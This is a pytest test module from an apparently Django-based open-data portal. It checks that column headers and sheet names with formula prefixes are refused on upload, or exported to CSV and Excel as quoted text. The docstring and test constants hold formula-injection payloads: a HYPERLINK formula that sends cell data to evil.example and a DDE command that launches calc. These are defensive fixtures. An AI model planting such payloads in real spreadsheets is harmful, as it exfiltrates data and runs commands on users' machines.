"""Column headers and sheet names reach Excel and CSV as text, never as a formula: a header
``=HYPERLINK("http://evil.example/?x="&B2,"Klik")`` is refused when a file is loaded, like a
cell; and a dataset that holds one anyway (loaded before the check) downloads it as a
string cell with a quote before it, like any cell."""

from __future__ import annotations

import csv
import io
import zipfile

import pyarrow as pa
import pytest
from django.db import transaction
from django.test import Client
from django.utils import translation
from openpyxl import Workbook, load_workbook

from regiohub.datasets import formats, services
from regiohub.datasets.tests.factories import make_dataset, upload

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'
FORMULAS = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "+A1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def no_formulas(data: bytes) -> Workbook:
    """An .xlsx read back, after checking that no cell of any sheet is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
    return book


def hostile_csv() -> str:
    header = '"' + HYPERLINK.replace('"', '""') + '";@SUM(A1:A2)'
    return f"{header}\nKortrijk;1\nMenen;2\n"


@pytest.mark.django_db
def test_a_formula_header_is_refused_at_load(region, steward):
    dataset = make_dataset(region["KOR"], steward, access="open", slug="koppen")
    with translation.override("en"):
        load = upload(dataset, steward, hostile_csv())
    assert load.state == "failed"
    assert "column 1" in load.message and "formula" in load.message
    assert HYPERLINK[:40] in load.message
    assert dataset.current_version is None


@pytest.mark.django_db
def test_a_formula_header_downloads_as_text(region, steward):
    dataset = make_dataset(region["KOR"], steward, access="open", slug="koppen")
    schema = [  # as a dataset loaded before headers were checked holds them
        {"name": name, "key": key, "type": "text", "unit": "", "role": "", "nullable": True}
        for name, key in ((HYPERLINK, "klik"), ("@SUM(A1:A2)", "som"))
    ]
    rows = pa.table({"klik": ["Kortrijk", "Menen"], "som": ["1", "2"]})
    with transaction.atomic():
        services.publish(dataset, rows, mode="replace", schema=schema, primary_key=[])
    dataset.refresh_from_db()
    assert [c["name"] for c in dataset.current_version.schema] == [HYPERLINK, "@SUM(A1:A2)"]

    answer = Client().get(f"/data/{dataset.slug}/download/?format=xlsx")
    assert answer.status_code == 200
    book = no_formulas(b"".join(answer.streaming_content))
    sheet = book.active
    assert [sheet.cell(1, 1).value, sheet.cell(1, 2).value] == ["'" + HYPERLINK, "'@SUM(A1:A2)"]
    assert [sheet.cell(1, 1).data_type, sheet.cell(1, 2).data_type] == ["s", "s"]
    assert sheet.cell(2, 1).value == "Kortrijk"

    text = b"".join(Client().get(f"/data/{dataset.slug}/download/?format=csv").streaming_content)
    for line in csv.reader(io.StringIO(text.decode())):
        assert not any(field[:1] in ("=", "+", "-", "@", "\t", "\r") for field in line)


def test_csv_headers_get_the_cells_treatment():
    batch = pa.record_batch({"a": ["=1+1"], "b": ["x"]})
    text = b"".join(formats.csv_stream([*FORMULAS, "plain"], [batch])).decode()
    header = next(csv.reader(io.StringIO(text)))
    assert header == [*("'" + f for f in FORMULAS), "plain"]


def test_every_text_in_an_xlsx_is_a_string_cell(tmp_path):
    header = [*FORMULAS, "nul\x00byte", "x" * 40_000]
    values = {f"c{i}": [text] for i, text in enumerate(header)}
    target = tmp_path / "out.xlsx"
    formats.write_xlsx(target, HYPERLINK, header, [pa.record_batch(values)])
    book = no_formulas(target.read_bytes())
    sheet = book.active
    assert sheet.title == '_=HYPERLINK("http___evil.exampl'
    for row in (1, 2):
        shown = [sheet.cell(row, column).value for column in range(1, len(header) + 1)]
        # (a carriage return comes back as a line feed, or as itself when lxml wrote the
        # file: openpyxl writes with lxml when it is installed)
        read = [str(v).replace("\r", "\n") for v in shown[: len(FORMULAS)]]
        assert read == ["'" + f.replace("\r", "\n") for f in FORMULAS]
        assert shown[-2] == "nul\ufffdbyte"
        assert len(shown[-1]) == formats.EXCEL_MAX_TEXT
        assert {sheet.cell(row, c).data_type for c in range(1, len(header) + 1)} == {"s"}


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("verkeerstellingen", "verkeerstellingen"),
        ("=1+1", "_=1+1"),
        ("@SUM(A1)", "_@SUM(A1)"),
        ("-2+3", "_-2+3"),
        ("'quoted'", "quoted"),
        ("a/b\\c?d*e:f[g]", "a_b_c_d_e_f_g"),
        ("\x00\t\r\n", "data"),
        ("", "data"),
        ("y" * 100, "y" * 31),
    ],
)
def test_sheet_titles_are_safe_and_valid(title, expected):
    assert formats.sheet_title(title) == expected
